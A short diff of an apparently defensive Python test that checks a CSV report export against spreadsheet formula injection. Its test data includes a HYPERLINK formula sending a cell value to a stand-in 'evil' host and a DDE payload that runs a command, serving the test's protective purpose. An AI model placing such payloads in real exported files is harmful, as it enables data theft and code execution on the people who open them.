@@ -217,7 +217,7 @@ class Runs(OneRun):
             self.change("status.json", lambda value: value["files"].update({
                 "episodes.jsonl": hashlib.sha256(episodes.read_bytes()).hexdigest()}), cell)
 
-        for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+cmd|' /C calc'!A0", "-1"):
+        for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+cmd|' /C calc'!A0", "-1+1"):
             with self.subTest(name):
                 arm(name)
                 rows = self.call("report", "run", "--format", "csv").stdout
